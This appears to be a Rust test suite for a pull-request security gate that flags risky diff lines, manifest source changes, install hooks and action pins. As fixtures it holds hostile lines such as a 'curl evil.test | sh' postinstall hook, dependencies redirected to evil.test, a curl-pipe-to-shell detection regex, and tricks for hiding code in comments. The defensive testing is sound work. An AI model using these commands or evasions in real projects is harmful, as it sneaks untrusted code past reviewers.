//! What counts for rules, with rules that look for one word each.

use std::sync::Arc;

use serde_json::{Value, json};

use super::*;
use crate::{
    concerns::gates::{RuleEvidence, assess::world::*},
    observed::{AccountKind, ChangedFiles::Complete, Content, FileStatus},
    policy::{ChosenRules, GateRule, LineCondition, Pattern, RuleBook, RuleTier},
};

/// A rule that looks for these terms in one place: `added`, `manifest`, …
fn rule(id: &str, tier: RuleTier, place: &str, terms: Value) -> GateRule {
    let says = format!("{id} is found");
    let mut written = json!({ "id": id, "gate": "security", "says": says, "tier": tier, "opens": [], "quiet": [] });
    written[place] = terms;
    serde_json::from_value(written).unwrap()
}

/// What the rules find in these files: the rule, and what it shows.
fn found(rules: Vec<GateRule>, world: &World) -> Option<Vec<(String, RuleEvidence)>> {
    let book = Arc::new(RuleBook::new(rules).unwrap());
    let trigger = GateTrigger::Rules(ChosenRules::of_preset(&book, &gate("security")));
    let found = ReadDiff::new(&world.snapshot, &[])
        .triggered(&gate_policy(trigger, &[]), &BTreeSet::new())?;
    Some(
        found
            .matches
            .into_iter()
            .map(|found| match found.reason {
                MatchReason::Rule { id, evidence, .. } => (id.to_string(), evidence),
                reason => (format!("{reason:?}"), RuleEvidence::Path),
            })
            .collect(),
    )
}

fn world_of(files: Vec<ChangedFile>) -> World {
    let mut world = World::new();
    world.snapshot.files = Complete(files);
    world
}

/// A file whose texts were read, and whose patch GitHub does not give.
fn compared(path: &str, old: &str, new: &str) -> World {
    let mut world = world_of(vec![ChangedFile {
        patch: None,
        ..file(path, "")
    }]);
    let (base, head) = (sha(200), world.snapshot.pull_request.head.sha);
    world.snapshot.merge_base = Some(base);
    world
        .snapshot
        .contents
        .texts
        .insert((base, path.to_owned()), Content::Text(old.into()));
    world
        .snapshot
        .contents
        .texts
        .insert((head, path.to_owned()), Content::Text(new.into()));
    world
}

/// Whether a rule about removed lines, and one about added lines, find the word `check`.
fn finds(world: &World) -> (bool, bool) {
    let on = |side| {
        found(
            vec![rule("check", RuleTier::Opens, side, json!(["check"]))],
            world,
        )
        .is_some()
    };
    (on("removed"), on("added"))
}

#[test]
fn no_line_is_excused() {
    for (path, patches, expected) in [
        // Moved to another file, moved within one, one of two equal lines: removed and added.
        (
            "a.rs",
            &["@@ -1 +0,0 @@\n-check(a)", "@@ -0,0 +1 @@\n+check(a)"][..],
            (true, true),
        ),
        (
            "a.rs",
            &["@@ -1,3 +1,3 @@\n-check(a)\n delete(a)\n+check(a)"],
            (true, true),
        ),
        (
            "a.rs",
            &["@@ -1,2 +1 @@\n-check(a)\n-check(a)\n+check(a)"],
            (true, true),
        ),
        // Passed by a line that moves: it leaves its place. By one word it is not.
        (
            "a.rs",
            &["@@ -1,4 +1,4 @@\n+delete_all()\n check(a)\n b()\n-delete_all()"],
            (true, false),
        ),
        (
            "a.yml",
            &["@@ -1,4 +1,4 @@\n user:\n+- delete_all\n check:\n-- delete_all"],
            (true, false),
        ),
        (
            "a.rs",
            &["@@ -1,4 +1,4 @@\n+}\n check(a)\n b()\n-}"],
            (false, false),
        ),
        // An import, and a module that is called one of tests.
        (
            "a.rs",
            &["@@ -1 +1 @@\n-use a::check;\n+use b::check;"],
            (true, true),
        ),
        (
            "a.rs",
            &["@@ -9 +9 @@ mod tests {\n-check(a)\n+check(b)"],
            (true, true),
        ),
        // White space, where it means something and where it cannot.
        (
            "a.py",
            &["@@ -1,2 +1,2 @@\n if a:\n-check(a)\n+    check(a)"],
            (true, true),
        ),
        (
            "a.yml",
            &["@@ -1,2 +1,2 @@\n a:\n-  check: 1\n+    check: 1"],
            (true, true),
        ),
        (
            "a.unknown",
            &["@@ -1 +1 @@\n-check(a)\n+  check(a)"],
            (true, true),
        ),
        (
            "a.rs",
            &["@@ -1 +1 @@\n-check(a)\n+    check(a)"],
            (false, false),
        ),
        (
            "a.rs",
            &["@@ -1 +1,3 @@\n-check(a)\n+if b {\n+    check(a)\n+}"],
            (true, true),
        ),
        // Comments that are none.
        (
            "a.js",
            &["@@ -1 +1 @@\n+// x\u{2028} check(a)"],
            (false, true),
        ),
        ("a.js", &["@@ -1 +1 @@\n+// x\r check(a)"], (false, true)),
        (
            "A.java",
            &["@@ -1 +1 @@\n+// \\u000a check(a);"],
            (false, true),
        ),
        (
            "a.py",
            &["@@ -1 +1 @@\n+# coding: unicode_escape check"],
            (false, true),
        ),
        (
            "a.go",
            &["@@ -1 +1 @@\n+//go:linkname check a.check"],
            (false, true),
        ),
        (
            "a.go",
            &["@@ -1 +1 @@\n+// #include \"check.h\""],
            (false, true),
        ),
        (
            "Dockerfile",
            &["@@ -1 +1 @@\n+# syntax=evil/check"],
            (false, true),
        ),
        ("a.c", &["@@ -1 +1 @@\n+// check \\"], (false, true)),
        (
            "a.c",
            &["@@ -1,2 +1,2 @@\n #define A \\\n+// check"],
            (false, true),
        ),
        (
            "a.rb",
            &["@@ -1 +1,3 @@\n+s = <<~S\n+  #{check(a)}\n+S"],
            (false, true),
        ),
        (
            "a.php",
            &["@@ -1 +1 @@\n+// ?><?php check(a);"],
            (false, true),
        ),
        ("a.sql", &["@@ -1 +1 @@\n+/*!50000 check */"], (false, true)),
        (
            "a.ts",
            &["@@ -1 +1,3 @@\n+let s = `\n+/* ${check(a)} */\n+`"],
            (false, true),
        ),
        (
            "a.ts",
            &["@@ -0,0 +1,2 @@\n+/* b */ check(a)\n+c"],
            (false, true),
        ),
        (
            "a.unknown",
            &["@@ -1 +1,3 @@\n+/*\n+check(a)\n+*/"],
            (false, true),
        ),
        // Comments.
        (
            "a.ts",
            &["@@ -1 +1,2 @@\n+// check\n-// check"],
            (false, false),
        ),
        (
            "a.ts",
            &["@@ -1 +1,4 @@\n+/**\n+ * Don't check(a) here.\n+ */"],
            (false, false),
        ),
        (
            "a.ml",
            &["@@ -1 +1,3 @@\n+(* one\n+   check(a) *)"],
            (false, false),
        ),
        ("a.erl", &["@@ -1 +1,2 @@\n+% check(a)"], (false, false)),
        (
            "a.ts",
            &["@@ -1,3 +0,0 @@\n-/**\n- * check(a)\n- */"],
            (false, false),
        ),
        // Look-alikes, and words across what joins them.
        (
            "a.rs",
            &["@@ -1 +1 @@\n-\u{441}heck(a)\n+\u{ff43}heck(b)"],
            (true, true),
        ),
    ] {
        let files = patches
            .iter()
            .enumerate()
            .map(|(at, patch)| file(&format!("{at}/{path}"), patch))
            .collect();
        assert_eq!(finds(&world_of(files)), expected, "{path} {patches:?}");
    }
}

#[test]
fn what_takes_lines_out_of_the_program_counts_them() {
    for (path, old, new, expected) in [
        (
            "a.js",
            "a()\ncheck()\nb()",
            "a()\n/*\ncheck()\n*/\nb()",
            (true, false),
        ),
        (
            "a.js",
            "a()\n/*\ncheck()\n*/\nb()",
            "a()\ncheck()\nb()",
            (false, true),
        ),
        (
            "a.rs",
            "a()\ncheck()",
            "a(); /*\ncheck()\n*/",
            (true, false),
        ),
        ("a.js", "a()\ncheck()", "a(`\ncheck()\n`)", (true, false)),
        (
            "a.py",
            "a()\ncheck()\nb()",
            "a()\n\"\"\"\ncheck()\n\"\"\"\nb()",
            (true, false),
        ),
        (
            "a.rb",
            "a\ncheck\nb",
            "a\n=begin\ncheck\n=end\nb",
            (true, false),
        ),
        ("a.rb", "a\ncheck", "a\n__END__\ncheck", (true, true)),
        ("a.hs", "a\ncheck a", "{-\na\ncheck a\n-}", (true, false)),
        (
            "a.lua",
            "a()\ncheck()",
            "a()\n--[[\ncheck()\n]]",
            (true, false),
        ),
        (
            "a.vue",
            "<a/>\n<check/>",
            "<a/>\n<!--\n<check/>\n-->",
            (true, false),
        ),
        ("a.sh", "a\ncheck", "a\n: <<'X'\ncheck\nX", (true, false)),
        (
            "a.c",
            "a();\ncheck();",
            "a();\n#if 0\ncheck();\n#endif",
            (true, true),
        ),
        (
            "a.c",
            "#ifndef A\na();\ncheck();\n#endif",
            "#ifndef A\na();\n#ifdef B\ncheck();\n#endif\n#endif",
            (true, true),
        ),
        (
            "a.go",
            "package a\nfunc check() {}",
            "//go:build ignore\npackage a\nfunc check() {}",
            (true, true),
        ),
        (
            "a.rs",
            "fn a() {}\nfn check() {\n}",
            "fn a() {}\n#[cfg(any())]\nfn check() {\n}",
            (true, true),
        ),
        // Far from what changes.
        (
            "a.js",
            &format!("a()\n{}check()", "b()\n".repeat(40)),
            &format!("a() /*\n{}check()", "b()\n".repeat(40)),
            (true, false),
        ),
        // A text that is not understood counts from the mark to its end.
        (
            "a.js",
            "x = /`/\na()\ncheck()",
            "x = /`/\na() /*\ncheck()",
            (true, true),
        ),
        // What begins and ends in one run concerns nothing else; nor does another string of the same length of marks.
        (
            "a.js",
            "a()\ncheck()",
            "/* why */\na()\ncheck()",
            (false, false),
        ),
        (
            "a.js",
            "a(`\n${check()}`)",
            "b(`\n${check()}`)",
            (false, false),
        ),
        (
            "a.rs",
            "fn check() {\n}",
            "#[cfg(test)]\nmod a {\n}\nfn check() {\n}",
            (false, false),
        ),
    ] {
        assert_eq!(finds(&compared(path, old, new)), expected, "{path} {new}");
    }
}

#[test]
fn a_starred_line_is_a_suspect_where_it_is_added() {
    let patch = "@@ -7,3 +7,3 @@\n  * one\n- * check(a)\n+ * check(b)\n  * three";
    let world = world_of(vec![file("a.ts", patch)]);
    assert_eq!(finds(&world), (true, false));
    let two = ["check", "b"].map(|word| rule(word, RuleTier::Opens, "added", json!([word])));
    assert_eq!(
        found(two.to_vec(), &world).map(|found| found.len()),
        Some(2)
    );
}

#[test]
fn one_suspect_is_a_note_and_two_open() {
    let world = world_of(vec![file("a.rs", "@@ -1 +1 @@\n+role(token)")]);
    let suspect = |word: &str| rule(word, RuleTier::Suspects, "changed", json!([word]));
    assert_eq!(found(vec![suspect("role")], &world), None);
    let book = Arc::new(RuleBook::new(vec![suspect("role")]).unwrap());
    let trigger = GateTrigger::Rules(ChosenRules::of_preset(&book, &gate("security")));
    let notes = ReadDiff::new(&world.snapshot, &[]).suspects(&gate_policy(trigger, &[]));
    assert!(
        matches!(
            &notes[..],
            [TriggerMatch {
                line: Some(1),
                reason: MatchReason::Rule { .. },
                ..
            }]
        ),
        "{notes:?}"
    );
    assert_eq!(
        found(vec![suspect("role"), suspect("token")], &world).map(|found| found.len()),
        Some(2)
    );
}

#[test]
fn files_without_a_patch_are_compared_and_else_open() {
    assert_eq!(finds(&compared("a.rs", "a\n", "a\ncheck\n")), (false, true));
    assert_eq!(finds(&compared("a.rs", "a\n", "a\nb\n")), (false, false));
    let missing = |path: &str, status| {
        world_of(vec![ChangedFile {
            patch: None,
            status,
            ..file(path, "")
        }])
    };
    for (path, opens) in [
        ("a.jar", true),
        ("a.rs", true),
        ("docs/a.pdf", false),
        ("a.png", false),
        ("vendor/a.so", false),
    ] {
        assert_eq!(
            finds(&missing(path, FileStatus::Modified)),
            (opens, opens),
            "{path}"
        );
    }
}

#[test]
fn a_rename_to_another_kind_counts_all_lines() {
    let renamed = |from: &str, to: &str| {
        let mut world = compared(to, "", "check\n");
        let base = sha(200);
        world
            .snapshot
            .contents
            .texts
            .insert((base, from.to_owned()), Content::Text("check\n".into()));
        let renamed = ChangedFile {
            previous_path: Some(from.into()),
            status: FileStatus::Renamed,
            patch: None,
            additions: 0,
            deletions: 0,
            ..file(to, "")
        };
        world.snapshot.files = Complete(vec![renamed]);
        finds(&world)
    };
    assert_eq!(renamed("docs/a.md", "src/a.rs"), (false, true));
    assert_eq!(renamed("src/a.rs", "docs/a.md"), (true, false));
    assert_eq!(renamed("src/a.rs", "src/b.rs"), (false, false));
    // Nothing runs it any more, or it runs now.
    assert_eq!(renamed("src/a.rb", "src/a.rb.disabled"), (true, true));
    // Go builds it on one system only, by its name.
    assert_eq!(renamed("src/a.go", "src/a_plan9.go"), (true, true));
    assert_eq!(renamed("src/a_linux.go", "src/b_linux.go"), (false, false));
}

#[test]
fn kinds_decide_where_a_rule_looks() {
    let line = |path: &str| finds(&world_of(vec![file(path, "@@ -1 +1 @@\n+check()")])).1;
    for (path, looks) in [
        ("src/a.py", true),
        ("docs/a.py", true),
        ("examples/a.go", true),
        ("generated/a.ts", true),
        ("spec/help.rb", true),
        ("docs/a.md", false),
        ("tests/a.py", false),
        ("src/a_test.go", false),
        ("locale/a.po", false),
        ("vendor/a.go", false),
        ("Cargo.lock", false),
        ("db/migrations/add_test.rb", true),
        (".github/workflows/a.yml", true),
    ] {
        assert_eq!(line(path), looks, "{path}");
    }
    let named = |import: &str| {
        finds(&world_of(vec![
            file("src/auth.test.ts", "@@ -1 +1 @@\n+check()"),
            file("src/main.ts", &format!("@@ -1 +1 @@\n+{import}")),
        ]))
        .1
    };
    assert!(named("import './auth.test';") && !named("import './auth';"));
}

#[test]
fn a_guarded_path_opens_at_any_change() {
    let guard = || vec![rule("guard", RuleTier::Opens, "path", json!(["auth"]))];
    let opens = |file: ChangedFile| found(guard(), &world_of(vec![file])).is_some();
    let changed = |path: &str| file(path, "@@ -1 +1 @@\n+// why");
    for (path, expected) in [
        ("src/auth/a.js", true),
        ("src/userAuth.js", true),
        ("src/author.js", false),
        ("docs/auth/a.md", false),
        ("docs/auth/a.py", true),
        ("src/auth/a.test.js", false),
        ("src/auth/migrations/a.test.js", true),
        ("locale/auth.po", false),
    ] {
        assert_eq!(opens(changed(path)), expected, "{path}");
    }
    let mode = ChangedFile {
        patch: None,
        additions: 0,
        deletions: 0,
        status: FileStatus::Changed,
        ..file("auth/a.sh", "")
    };
    let moved = ChangedFile {
        previous_path: Some("auth/a.sh".into()),
        status: FileStatus::Renamed,
        ..file("b.sh", "")
    };
    let into = ChangedFile {
        previous_path: Some("b.sh".into()),
        status: FileStatus::Renamed,
        ..file("auth/a.sh", "")
    };
    let copied = ChangedFile {
        status: FileStatus::Copied,
        ..into.clone()
    };
    assert!(opens(mode) && opens(moved) && opens(into) && opens(copied));
    // Moved to where the path or the kind is another, without a line that changes.
    for (from, to) in [
        ("src/auth/a.py", "src/b.py"),
        ("src/auth/a.py", "docs/a.md"),
        ("docs/auth.md", "src/auth.py"),
    ] {
        let moved = ChangedFile {
            previous_path: Some(from.into()),
            status: FileStatus::Renamed,
            patch: None,
            additions: 0,
            deletions: 0,
            ..file(to, "")
        };
        assert!(opens(moved.clone()), "{from} {to}");
        // Each gate has both names among its own files.
        let scope = Scope::Files(BTreeSet::from([0]));
        assert_eq!(scope.paths(&[moved]), [to, from]);
    }
}

#[test]
fn sources_hooks_and_actions_of_packages() {
    let [source, hook, action] = ["source", "hook", "action"];
    let finds = |change, path: &str, patch: &str, bot: bool| {
        let mut world = world_of(vec![file(path, patch)]);
        if bot {
            world.snapshot.pull_request.author.kind = AccountKind::Bot;
            world.snapshot.pull_request.author.login = login("renovate[bot]");
        }
        found(
            vec![rule("it", RuleTier::Opens, "manifest", json!(change))],
            &world,
        )
        .is_some()
    };
    for (change, path, line, expected) in [
        (
            source,
            "package.json",
            "-    \"jose\": \"^5\",\n+    \"jose\": \"github:a/jose#main\",",
            true,
        ),
        (
            source,
            "package.json",
            "-    \"jose\": \"^5\",\n+    \"jose\": \"a/jose#main\",",
            true,
        ),
        (
            source,
            "package.json",
            "-    \"jose\": \"^5\",\n+    \"jose\": \"^6\",",
            false,
        ),
        (
            source,
            "package.json",
            "+  \"homepage\": \"https://acme.test\",",
            false,
        ),
        (
            source,
            "package.json",
            "+  \"main\": \"dist/index\",",
            false,
        ),
        (
            source,
            "package.json",
            "+    \"./cli\": \"./dist/cli.js\",",
            false,
        ),
        (
            source,
            "package.json",
            "-    \"jose\": \"^5\",\n+    \"jose\": \"somebody/jose\",",
            true,
        ),
        (
            source,
            "package.json",
            "-    \"jose\": \"^5\",\n+    \"jose\": \"https://evil.test/jose\",",
            true,
        ),
        (
            source,
            "package.json",
            "+    \"**/jose\": \"npm:evil@5\",",
            true,
        ),
        (
            source,
            "package.json",
            "-    \"jose\": \"^5\",\n+    \"jose\": \"file:../jose\",",
            true,
        ),
        (
            source,
            "requirements.txt",
            "+--extra-index-url https://evil.test/simple",
            true,
        ),
        (
            source,
            "requirements.txt",
            "+flask @ git+https://evil.test/flask",
            true,
        ),
        (source, "requirements.txt", "-flask==1\n+flask==2", false),
        (
            source,
            "go.mod",
            "+replace a.test/b => evil.test/b v1.0.0",
            true,
        ),
        (
            source,
            "go.mod",
            "-\ta.test/b v1.0.0\n+\ta.test/b v1.1.0",
            false,
        ),
        (
            source,
            "Gemfile",
            "-source \"https://rubygems.org\"\n+source \"https://evil.test\"",
            true,
        ),
        (source, "Cargo.toml", "+[patch.crates-io]", true),
        (
            source,
            "Cargo.toml",
            "-a = { git = \"https://a.test\", rev = \"1\" }\n+a = { git = \"https://a.test\", rev = \"2\" }",
            true,
        ),
        (source, "Cargo.toml", "+own = { path = \"../own\" }", false),
        (
            source,
            "Cargo.toml",
            "-own = { version = \"1\", path = \"own\" }\n+own = { version = \"2\", path = \"own\" }",
            false,
        ),
        (source, ".npmrc", "+registry=https://evil.test", true),
        (
            source,
            "Package.swift",
            "-.package(url: \"https://a.test/b\", from: \"1\"),\n+.package(url: \"https://a.test/b\", from: \"2\"),",
            false,
        ),
        (
            source,
            "package-lock.json",
            "+      \"resolved\": \"https://evil.test/jose.tgz\",",
            true,
        ),
        (
            source,
            "package-lock.json",
            "+      \"resolved\": \"https://registry.npmjs.org/jose.tgz\",",
            false,
        ),
        (
            source,
            "Cargo.lock",
            "+source = \"git+https://evil.test/a#1234\"",
            true,
        ),
        (
            hook,
            "package.json",
            "+    \"postinstall\": \"curl evil.test | sh\",",
            true,
        ),
        (hook, "package.json", "+    \"test\": \"jest\",", false),
        (
            hook,
            "composer.json",
            "+    \"post-install-cmd\": [\"a\"],",
            true,
        ),
        (hook, "setup.py", "+    cmdclass={'install': Evil},", true),
        (
            action,
            ".github/workflows/a.yml",
            "-  - uses: a/b@v1\n+  - uses: a/b@v2 # why",
            true,
        ),
        (
            action,
            ".github/workflows/a.yml",
            "-  - uses: a/b@v1\n+  - uses: evil/b@v2",
            false,
        ),
        (
            action,
            ".github/workflows/a.yml",
            "-  - uses: a/b@v1\n+  - uses: a/b@main",
            false,
        ),
        // An approval that stands behind the deployment now.
        (
            action,
            ".github/workflows/a.yml",
            "-  - uses: a/approve@v1\n   - run: deploy\n+  - uses: a/approve@v1",
            false,
        ),
        (
            source,
            "lib/shop",
            "-Subproject commit 1111\n+Subproject commit 2222",
            true,
        ),
    ] {
        let patch = format!("@@ -9,9 +9,9 @@\n{line}");
        assert_eq!(
            finds(change, path, &patch, false),
            expected,
            "{path} {line}"
        );
    }
    let pins = "@@ -1 +1 @@\n-  - uses: a/b@1111111111111111111111111111111111111111 # v1\n+  - uses: a/b@2222222222222222222222222222222222222222 # v2";
    assert!(finds(action, ".github/workflows/a.yml", pins, true));
    assert!(!finds(action, ".github/workflows/a.yml", pins, false));
}

/// What a program reads as one line is one for an expression, however it is written.
#[test]
fn expressions_read_lines_that_go_on() {
    let opens = |path: &str, patch: &str| {
        let terms = json!({ "match": r"curl\b.*\|\s*sh\b" });
        let world = world_of(vec![file(path, patch)]);
        let by_rule = found(vec![rule("it", RuleTier::Opens, "added", terms)], &world).is_some();
        let wanted = vec![crate::policy::Pattern::parse(r"curl\b.*\|\s*sh\b").unwrap()];
        let wanted = crate::policy::LineCondition {
            patterns: wanted,
            ..Default::default()
        };
        let trigger = gate_policy(GateTrigger::AddedLines(wanted), &[]);
        let by_condition = ReadDiff::new(&world.snapshot, &[])
            .triggered(&trigger, &BTreeSet::new())
            .is_some();
        assert_eq!(by_rule, by_condition, "{path} {patch}");
        by_rule
    };
    for (path, lines, expected) in [
        ("a.sh", "+curl -s x | sh", true),
        ("a.sh", "+curl -s x \\\n+  | sh", true),
        ("a.sh", "+curl -s x \\\n+  --fail \\\n+  | sh", true),
        ("a.sh", "+curl -s x |\n+  sh", true),
        ("a.sh", "+curl -s x\n+  | sh", true),
        // What goes on above or below was there.
        ("a.sh", " curl -s x \\\n+  | sh", true),
        ("a.sh", "+curl -s y \\\n-curl -s x \\\n   | sh", true),
        ("Dockerfile", "+RUN curl -s x \\\n+  # why\n+  | sh", true),
        ("a.yml", "+run: >-\n+  curl -s\n+  x\n+\n+  | sh", true),
        ("a.yml", "+- >\n+  curl -s x |\n+  sh", true),
        (
            "a.yml",
            "+command: >  # why\n+  curl -s x -o - | s\n+  h",
            false,
        ),
        // Lines of their own, and lines that leave.
        ("a.sh", "+curl -s x\n+a | sh", false),
        ("a.yml", "+run: >-\n+  curl -s x\n+name: a | sh", false),
        ("a.yml", "+run: |\n+  curl -s x\n+  a | sh", false),
        ("a.sh", "-curl -s x \\\n-  | sh\n+a", false),
        ("a.sh", " curl -s x \\\n   | sh\n+a", false),
    ] {
        assert_eq!(
            opens(path, &format!("@@ -1,9 +1,9 @@\n{lines}")),
            expected,
            "{path} {lines}"
        );
    }
    let long = "+curl \\\n".repeat(100_000);
    assert!(opens("a.sh", &format!("@@ -0,0 +1,100001 @@\n{long}+| sh")));
}

#[test]
fn a_lock_file_that_cannot_be_read_opens() {
    let lock = ChangedFile {
        patch: None,
        ..file("Cargo.lock", "")
    };
    let source = || vec![rule("source", RuleTier::Opens, "manifest", json!("source"))];
    assert!(found(source(), &world_of(vec![lock])).is_some());
    assert!(found(source(), &compared("Cargo.lock", "a\n", "a\nb\n")).is_none());
    assert!(
        found(
            source(),
            &compared(
                "Cargo.lock",
                "a\n",
                "source = \"git+https://evil.test/a#1\"\n"
            )
        )
        .is_some()
    );
}

/// What somebody writes costs in proportion to its length: more would be seen as a test that does not end.
#[test]
fn hostile_lines_are_read_to_their_end() {
    let patches = [
        format!("@@ -0,0 +1,50000 @@\n{}", "+/* a\n".repeat(50_000)),
        format!("@@ -1,50000 +1,50000 @@\n{}", "+a\n b\n".repeat(50_000)),
        format!("@@ -0,0 +1 @@\n+{}", "\\\"".repeat(200_000)),
        format!("@@ -0,0 +1 @@\n+{}", "/a".repeat(200_000)),
        format!("@@ -0,0 +1 @@\n+{}", "Check".repeat(100_000)),
    ];
    for patch in patches {
        finds(&world_of(vec![file("a.js", &patch)]));
    }
}

#[test]
fn the_files_to_read_are_those_that_patches_do_not_tell_of() {
    let names = |files: Vec<ChangedFile>| -> Vec<String> {
        let mut world = world_of(files);
        let looks = gate_policy(GateTrigger::AddedLines(LineCondition::default()), &[]);
        world.policy.gates = [(gate("security"), looks)].into();
        files_to_read(&world.snapshot, &world.policy)
            .into_iter()
            .map(|(_, path)| path)
            .collect()
    };
    assert_eq!(
        names(vec![file("a.rs", "@@ -1 +1 @@\n+x")]),
        Vec::<String>::new()
    );
    assert_eq!(
        names(vec![file("a.rs", "@@ -1,2 +1,3 @@\n+/*\n a")]),
        ["a.rs", "a.rs"]
    );
    assert_eq!(
        names(vec![ChangedFile {
            patch: None,
            ..file("a.rs", "")
        }]),
        ["a.rs", "a.rs"]
    );
    assert_eq!(
        names(vec![ChangedFile {
            patch: None,
            ..file("a.png", "")
        }]),
        Vec::<String>::new()
    );
    assert_eq!(
        names(vec![file("Cargo.lock", "@@ -1 +1 @@\n+x")]),
        ["Cargo.lock", "Cargo.lock"]
    );
    let new = ChangedFile {
        patch: None,
        status: FileStatus::Added,
        ..file("big.rs", "")
    };
    assert_eq!(names(vec![new]), ["big.rs"]);
    let many = (0..30)
        .map(|n| ChangedFile {
            patch: None,
            ..file(&format!("{n}.rs"), "")
        })
        .collect();
    assert_eq!(names(many).len(), 40);
}

/// A rule about a declaration looks at what stands directly in it: below its line, with the attributes above that, or
/// below what git names of it.
#[test]
fn a_line_counts_within_its_declaration() {
    let finds = |path: &str, patch: &str| {
        let mut rule = rule("field", RuleTier::Opens, "changed", json!(["note"]));
        rule.within = Some(Pattern::parse("Model|Entity").unwrap());
        found(vec![rule], &world_of(vec![file(path, patch)])).is_some()
    };
    for (path, patch) in [
        (
            "a.py",
            "@@ -1,2 +1,3 @@\n class Order(Model):\n     id: int\n+    note: str",
        ),
        (
            "a.py",
            "@@ -9,2 +9,2 @@ class Order(Model):\n     id: int\n-    note: str",
        ),
        (
            "a.java",
            "@@ -1,3 +1,4 @@\n @Entity\n @Table\n class Order {\n+    String note;",
        ),
        (
            "a.cs",
            "@@ -1,3 +1,4 @@\n [Entity]\n class Order\n {\n+    string note;",
        ),
    ] {
        assert!(finds(path, patch), "{patch}");
    }
    for (path, patch) in [
        (
            "a.py",
            "@@ -1,1 +1,2 @@\n class Order(Form):\n+    note: str",
        ),
        (
            "a.py",
            "@@ -1,2 +1,3 @@\n class Order(Model):\n     def shown(self):\n+        return note",
        ),
        (
            "a.py",
            "@@ -1,2 +1,3 @@\n class Order(Model):\n     id: int\n+note = 1",
        ),
    ] {
        assert!(!finds(path, patch), "{patch}");
    }
}
